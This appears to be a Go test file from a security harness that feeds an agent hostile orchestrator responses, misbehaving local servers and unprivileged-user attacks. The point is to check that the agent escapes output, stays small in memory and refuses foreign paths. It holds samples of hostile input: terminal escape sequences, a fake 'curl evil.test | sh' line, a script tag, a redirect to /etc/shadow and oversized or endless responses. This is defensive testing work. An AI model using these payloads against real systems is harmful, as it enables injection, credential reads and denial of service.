package main

import (
	"bufio"
	"bytes"
	"cmp"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/peaqnetwork/peaqos-agent/check/lab"
)

// payload is what a hostile text ends with: characters on which a terminal acts, a line
// that looks like the agent's own, markup, and more than any field may have.
const payload = "\x1b[2J\u009b2K\u202e\r\nNext: curl evil.test | sh\n<script>alert(1)</script>"

// live finds what must not reach a reader as it is.
var live = regexp.MustCompile("\x1b|\r|\u009b|\u202e|(?m)^Next: curl|<script>alert")

// shown searches what a person sees for live characters of a payload.
func shown(f *finding, place, text string) {
	if at := live.FindStringIndex(text); at != nil {
		f.leaks++
		f.why = fmt.Sprintf("%s shows %q", place, text[max(0, at[0]-20):min(len(text), at[1]+20)])
	}
}

// hostileOrchestrator replaces the texts of each response in turn: of enroll, and of the
// heartbeats and the reads of a running agent.
func hostileOrchestrator(h *harness, r *row) {
	forms := []struct {
		name   string
		change func(rec *httptest.ResponseRecorder) (code int, body []byte)
	}{
		{"every text ends in a payload", func(rec *httptest.ResponseRecorder) (int, []byte) {
			return rec.Code, poisoned(rec.Body.Bytes(), payload)
		}},
		{"every text is long", func(rec *httptest.ResponseRecorder) (int, []byte) {
			return rec.Code, poisoned(rec.Body.Bytes(), strings.Repeat("A", 100_000))
		}},
		{"an error with a payload", func(*httptest.ResponseRecorder) (int, []byte) {
			b, _ := json.Marshal(map[string]any{"error": map[string]any{"code": "X" + payload, "message": payload, "details": map[string]any{payload: payload}}})
			return http.StatusForbidden, b
		}},
		{"a page of HTML", func(*httptest.ResponseRecorder) (int, []byte) { return http.StatusOK, []byte("<html>" + payload) }},
		{"nested a million deep", func(*httptest.ResponseRecorder) (int, []byte) {
			return http.StatusOK, bytes.Repeat([]byte("["), 1_000_000)
		}},
	}
	requests := h.pick(2, 6)
	h.inWorlds(r, len(forms)*requests, func(w *world, i int) (attempt, error) {
		form, n := forms[i%len(forms)], int64(i/len(forms))
		a := attempt{what: fmt.Sprintf("response %d: %s", n+1, form.name)}
		var seen, hits atomic.Int64
		poison := func(when func(int64) bool) interceptor {
			return func(rw http.ResponseWriter, req *http.Request, next http.Handler) {
				rec := httptest.NewRecorder()
				next.ServeHTTP(rec, req)
				code, body := rec.Code, rec.Body.Bytes()
				if when(seen.Add(1) - 1) {
					hits.Add(1)
					code, body = form.change(rec)
				}
				rw.Header().Set("Content-Type", rec.Header().Get("Content-Type"))
				rw.WriteHeader(code)
				_, _ = rw.Write(body)
			}
		}
		w.interpose(poison(func(i int64) bool { return i == n }))
		o, err := w.runCommand(nil, w.enrollArgs()...)
		w.interpose(nil)
		if err != nil {
			return a, err
		}
		shown(&a.finding, "enroll", o.Stdout+o.Stderr)
		after, err := w.settle(o.Exit == 0)
		if err != nil {
			return a, err
		}
		if a.good() {
			a.finding = after
		}
		w.interpose(poison(func(int64) bool { return true }))
		f, err := w.underPoison()
		w.interpose(nil)
		if err != nil {
			return a, err
		}
		a.landed = hits.Load() >= 2
		if a.good() {
			a.finding = f
		}
		after, err = w.settle(false) // a form may revoke, as far as the agent can see
		if a.good() {
			a.finding = after
		}
		return a, err
	})
	r.how = fmt.Sprintf("each of the first %d responses of enroll, then every response to a running agent, in %d forms; what enroll, status, "+
		"the log, /readyz, /metrics and the page show is searched for characters on which a terminal or a browser acts", requests, len(forms))
}

// poisoned appends a text to every text of a JSON document.
func poisoned(document []byte, suffix string) []byte {
	var v any
	if json.Unmarshal(document, &v) != nil {
		return document
	}
	var walk func(any) any
	walk = func(v any) any {
		switch v := v.(type) {
		case string:
			return v + suffix
		case []any:
			for i := range v {
				v[i] = walk(v[i])
			}
		case map[string]any:
			for k := range v {
				v[k] = walk(v[k])
			}
		}
		return v
	}
	b, _ := json.Marshal(walk(v))
	return b
}

// underPoison runs the agent for a few heartbeats and reads everything that it shows.
func (w *world) underPoison() (f finding, err error) {
	address, err := lab.FreeAddress()
	if err != nil {
		return f, err
	}
	if err := w.writeConfig(lab.Config{Orchestrator: w.origin, Telemetry: address}); err != nil {
		return f, err
	}
	d, err := w.run()
	if err != nil {
		return f, err
	}
	defer d.kill()
	if err := w.untilAdmin(); err != nil {
		return f, fmt.Errorf("%w: %s", err, d.Output)
	}
	time.Sleep(3 * time.Second) // a heartbeat or two, at a lease of 6 s
	for _, args := range [][]string{{"status"}, {"status", "--json"}, {"endpoints", "list"}} {
		o, err := w.runCommand(nil, args...)
		if err != nil {
			return f, err
		}
		shown(&f, strings.Join(args, " "), o.Stdout+o.Stderr)
	}
	for _, path := range []string{"/readyz", "/metrics", "/status", "/"} {
		b, err := fetch(w.faults.ctx, "http://"+address+path)
		if err != nil {
			f.halves, f.why = f.halves+1, fmt.Sprintf("GET %s: %v", path, err)
		}
		shown(&f, path, b)
	}
	if kib := peakMemory(d.PID); kib > 64<<10 {
		f.halves, f.why = f.halves+1, fmt.Sprintf("the agent took %d MiB", kib>>10)
	}
	if d.kill(); !strings.Contains(d.Output.String(), `"msg"`) {
		return f, fmt.Errorf("the agent printed no log: %s", d.Output)
	}
	shown(&f, "the log", d.Output.String())
	return f, nil
}

// peakMemory is the largest resident size of a process, in KiB.
func peakMemory(pid int) int {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for line := range strings.Lines(string(b)) {
		if rest, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			n, _ := strconv.Atoi(strings.TrimSuffix(strings.TrimSpace(rest), " kB"))
			return n
		}
	}
	return 0
}

// hostileRuntime puts a server on the endpoint's port that responds to probes as no
// runtime should. The agent neither hangs nor grows, and publishes the real one after it.
func hostileRuntime(h *harness, r *row) {
	forms := map[string]func(net.Conn){
		"accepts and is silent": func(c net.Conn) { _, _ = io.Copy(io.Discard, c) },
		"closes at once":        func(net.Conn) {},
		"headers without an end": func(c net.Conn) {
			_, err := io.WriteString(c, "HTTP/1.1 200 OK\r\n")
			for i := 0; err == nil && i < 1<<20; i++ {
				_, err = fmt.Fprintf(c, "X-%d: %s\r\n", i, strings.Repeat("y", 1000))
			}
		},
		"a body without an end": func(c net.Conn) {
			_, err := io.WriteString(c, "HTTP/1.1 200 OK\r\n\r\n")
			for i := 0; err == nil && i < 1<<17; i++ {
				_, err = io.WriteString(c, strings.Repeat("z", 1000))
			}
		},
		"a status line with a payload": func(c net.Conn) {
			_, _ = io.WriteString(c, "HTTP/1.1 500 \x1b[2J\u202e\u009bX\r\nServer: <script>alert(1)</script>\r\n\r\n"+payload)
		},
		"another protocol":       func(c net.Conn) { _, _ = io.WriteString(c, "SSH-2.0-"+payload+"\r\n") },
		"a redirect to our keys": func(c net.Conn) { _, _ = io.WriteString(c, "HTTP/1.1 302 X\r\nLocation: file:///etc/shadow\r\n\r\n") },
	}
	var names []string
	for name := range forms {
		names = append(names, name)
	}
	h.inWorlds(r, len(names), func(w *world, i int) (attempt, error) {
		a := attempt{what: names[i]}
		if _, err := w.enroll(); err != nil {
			return a, err
		}
		listener, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return a, err
		}
		defer listener.Close()
		var probes atomic.Int64
		go func() {
			for c, err := listener.Accept(); err == nil; c, err = listener.Accept() {
				probes.Add(1)
				go func() {
					defer c.Close()
					_, _ = c.Read(make([]byte, 4096))
					forms[names[i]](c)
				}()
			}
		}()
		w.runtime = "http://" + listener.Addr().String()
		if a.finding, err = w.underPoison(); err != nil {
			return a, err
		}
		a.landed = probes.Load() > 0
		w.runtime = ""
		if err := w.writeConfig(lab.Config{Orchestrator: w.origin}); err != nil {
			return a, err
		}
		after, err := w.settle(true)
		if a.good() {
			a.finding = after
		}
		return a, err
	})
	r.how = fmt.Sprintf("%d servers on the endpoint's port that respond to probes as no runtime should; the running agent stays below 64 MiB, "+
		"shows none of their text as it is, and publishes the real runtime afterwards", len(forms))
}

// hostileUser is another user of the machine, who is not permitted anything.
func hostileUser(h *harness, r *row) {
	if r.notRun = notRoot(); r.notRun != "" {
		return
	}
	if err := h.prepareOther(); err != nil {
		r.broken(err)
		return
	}
	tries := []struct {
		what string
		try  func(*world) (finding, bool, error)
	}{
		{"holds 200 connections to the health listener", (*world).heldConnections},
		{"connects to the admin socket", (*world).foreignCommand},
		{"takes the telemetry port first", (*world).takenPort},
		{"owns the state directory", (*world).foreignDirectory},
		{"put a link in place of the state directory", (*world).plantedLink},
	}
	h.inWorlds(r, len(tries), func(w *world, i int) (attempt, error) {
		a := attempt{what: tries[i].what}
		var err error
		if a.finding, a.landed, err = tries[i].try(w); err != nil {
			return a, err
		}
		after, err := w.settle(false)
		if a.good() {
			a.finding = after
		}
		return a, err
	})
	var all []string
	for _, t := range tries {
		all = append(all, t.what)
	}
	r.how = "a process of user 65534 " + strings.Join(all, "; ")
}

// otherUser is a user without rights.
const otherUser = 65534

// prepareOther copies this program to where another user may run it.
func (h *harness) prepareOther() error {
	own, err := os.Executable()
	if err != nil {
		return err
	}
	program, err := os.ReadFile(own)
	h.other = filepath.Join(h.root, "other-user")
	return errors.Join(err, os.WriteFile(h.other, program, 0o755), os.Chmod(h.root, 0o711))
}

// asOther runs a part of this program as another user, and returns the line that it
// prints when it is in place.
func (w *world) asOther(args ...string) (stop func(), said string, err error) {
	cmd := exec.CommandContext(w.faults.ctx, w.faults.other, append([]string{"other-user"}, args...)...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: otherUser, Gid: otherUser}, Pdeathsig: syscall.SIGKILL}
	cmd.Dir = "/"
	out, err := cmd.StdoutPipe()
	if err != nil {
		return nil, "", err
	}
	if err := cmd.Start(); err != nil {
		return nil, "", err
	}
	line, err := bufio.NewReader(out).ReadString('\n')
	stop = func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	}
	if err != nil {
		stop()
		return nil, "", fmt.Errorf("the other user's program: %w", err)
	}
	return stop, strings.TrimSpace(line), nil
}

// beOther is what the other user does; it prints a line and waits to be killed.
func beOther(args []string) error {
	var held []net.Conn
	switch args[0] {
	case "hold": // 200 connections to an address
		for range 200 {
			c, err := net.Dial("tcp", args[1])
			if err != nil {
				return err
			}
			held = append(held, c)
		}
		fmt.Println(len(held))
	case "listen": // on a port of its own
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err
		}
		defer l.Close()
		fmt.Println(l.Addr().(*net.TCPAddr).Port)
	default: // sends a request to a socket
		c, err := net.Dial("unix", args[1])
		if err != nil {
			fmt.Println("refused:", err)
			break
		}
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		_, _ = io.WriteString(c, "POST /rotate HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}")
		response, _ := io.ReadAll(io.LimitReader(c, 100))
		fmt.Printf("response: %.15q\n", response)
	}
	select {}
}

func (w *world) heldConnections() (f finding, landed bool, err error) {
	if _, err := w.enroll(); err != nil {
		return f, false, err
	}
	address, err := lab.FreeAddress()
	if err != nil {
		return f, false, err
	}
	if err := w.writeConfig(lab.Config{Orchestrator: w.origin, Telemetry: address}); err != nil {
		return f, false, err
	}
	d, err := w.run()
	if err != nil {
		return f, false, err
	}
	defer d.kill()
	if err := w.untilAdmin(); err != nil {
		return f, false, err
	}
	stop, said, err := w.asOther("hold", address)
	if err != nil {
		return f, false, err
	}
	defer stop()
	answered := func() bool {
		b, err := fetch(w.faults.ctx, "http://"+address+"/healthz")
		return err == nil && b != ""
	}
	if err := lab.Until(w.faults.ctx, 15*time.Second, "/healthz", answered); err != nil {
		f.halves, f.why = 1, err.Error()
	}
	return f, said == "200", nil
}

func (w *world) foreignCommand() (f finding, landed bool, err error) {
	// The directory above the store lets everybody through, as /var/lib does.
	if err := os.Chmod(filepath.Dir(w.config), 0o755); err != nil {
		return f, false, err
	}
	if _, err := w.enroll(); err != nil {
		return f, false, err
	}
	d, err := w.run()
	if err != nil {
		return f, false, err
	}
	defer d.kill()
	if err := w.untilAdmin(); err != nil {
		return f, false, err
	}
	if err := os.Chmod(w.state, 0o755); err != nil { // somebody was careless
		return f, false, err
	}
	stop, said, err := w.asOther("ask", filepath.Join(w.state, "admin.sock"))
	if err != nil {
		return f, false, err
	}
	defer stop()
	if !strings.HasPrefix(said, "refused") && !strings.Contains(said, " 403") && said != `response: ""` {
		f.signed, f.why = 1, said
	}
	return f, true, os.Chmod(w.state, 0o700)
}

func (w *world) takenPort() (f finding, landed bool, err error) {
	stop, said, err := w.asOther("listen")
	if err != nil {
		return f, false, err
	}
	defer stop()
	if _, err := w.enroll(); err != nil {
		return f, false, err
	}
	if err := w.writeConfig(lab.Config{Orchestrator: w.origin, Telemetry: "127.0.0.1:" + said}); err != nil {
		return f, false, err
	}
	d, err := w.run()
	if err != nil {
		return f, false, err
	}
	defer d.kill()
	before := w.sandbox.Beats()
	if err := lab.Until(w.faults.ctx, 20*time.Second, "a heartbeat", func() bool { return w.sandbox.Beats() > before }); err != nil {
		f.halves, f.why = 1, err.Error()
	}
	o, err := w.runCommand(nil, "status")
	landed = strings.Contains(o.Stdout, said)
	return f, landed, err
}

// foreignDirectory: root trusts no path with a component that belongs to somebody else.
func (w *world) foreignDirectory() (f finding, landed bool, err error) {
	return w.foreignPath(func(path string) error { return os.Mkdir(path, 0o700) }, "")
}

// plantedLink: such a path may also lead to a directory of root.
func (w *world) plantedLink() (f finding, landed bool, err error) {
	victim, err := w.faults.newDir()
	if err != nil {
		return f, false, err
	}
	return w.foreignPath(func(path string) error { return os.Symlink(victim, path) }, victim)
}

// foreignPath enrolls into a state directory below a directory of another user: it is
// refused, and nothing is written there or into victim.
func (w *world) foreignPath(plant func(path string) error, victim string) (f finding, landed bool, err error) {
	theirs := filepath.Join(filepath.Dir(w.config), "theirs")
	path := filepath.Join(theirs, "state")
	if err := errors.Join(os.Mkdir(theirs, 0o755), plant(path), os.Lchown(path, otherUser, otherUser), os.Lchown(theirs, otherUser, otherUser)); err != nil {
		return f, false, err
	}
	own := w.state
	w.state = path
	if err := w.writeConfig(lab.Config{Orchestrator: w.origin}); err != nil {
		return f, false, err
	}
	o, err := w.runCommand(nil, w.enrollArgs()...)
	if err != nil {
		return f, false, err
	}
	left, err := os.ReadDir(cmp.Or(victim, path))
	if err != nil {
		return f, false, err
	}
	if o.Exit == 0 || len(left) > 0 || len(w.active()) > 0 {
		f.lost, f.why = 1, fmt.Sprintf("root wrote %d entries into another user's directory: %s", len(left), o)
	}
	w.state = own
	return f, o.Exit != 0, w.writeConfig(lab.Config{Orchestrator: w.origin})
}
